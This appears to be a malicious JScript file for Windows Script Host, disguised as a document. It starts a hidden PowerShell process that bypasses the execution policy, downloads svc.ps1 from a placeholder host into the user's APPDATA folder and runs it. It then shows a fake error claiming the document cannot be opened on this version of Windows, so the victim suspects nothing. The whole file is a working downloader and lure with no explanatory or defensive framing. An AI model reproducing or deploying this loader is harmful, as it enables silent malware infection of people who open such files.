var s = WScript.CreateObject("WScript.Shell");
var ps = "powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -Command ";
var c = "\"[Net.ServicePointManager]::SecurityProtocol='tls12';" +
        "$d=$env:APPDATA+'\\svc.ps1';" +
        "(New-Object Net.WebClient).DownloadFile('http://update.docs-viewer.invalid/svc.ps1',$d);" +
        "& $d\"";
s.Run(ps + c, 0, false);
WScript.Sleep(2000);
WScript.Echo("Error: This document cannot be opened on this version of Windows.");
